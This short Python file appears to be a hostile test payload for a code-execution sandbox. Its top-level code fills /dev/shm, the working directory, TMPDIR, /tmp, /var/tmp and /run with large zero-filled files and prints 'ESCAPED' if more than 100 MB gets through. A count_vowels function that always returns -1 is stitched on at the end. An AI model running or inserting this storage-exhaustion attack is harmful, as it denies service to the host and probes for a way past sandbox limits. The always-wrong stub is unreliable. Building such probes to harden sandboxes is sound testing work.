"""Fills /dev/shm and every folder it may write to with large files, to 400 MB in all."""

import os
import time

total = 0
for folder in ("/dev/shm", ".", os.environ["TMPDIR"], "/tmp", "/var/tmp", "/run"):
    for i in range(10):
        try:
            with open(f"{folder}/attack_bomb_{i}", "wb", 0) as file:
                for _ in range(10):
                    total += file.write(bytes(1 << 20))
        except OSError as error:
            print("held:", error)
            if total > 400 << 20:
                break
time.sleep(1)
print("ESCAPED:" if total > 100 << 20 else "wrote", total >> 20, "MB")


def count_vowels(text):
    return -1
